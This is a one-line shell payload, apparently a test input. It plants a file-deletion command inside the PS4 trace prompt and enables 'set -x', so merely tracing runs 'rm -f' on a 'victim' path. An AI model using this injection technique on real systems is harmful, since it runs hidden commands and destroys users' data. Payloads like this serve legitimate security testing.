PS4='$(rm -f /srv/rt/s/d1/home/victim/keep-D24)'; set -x; :
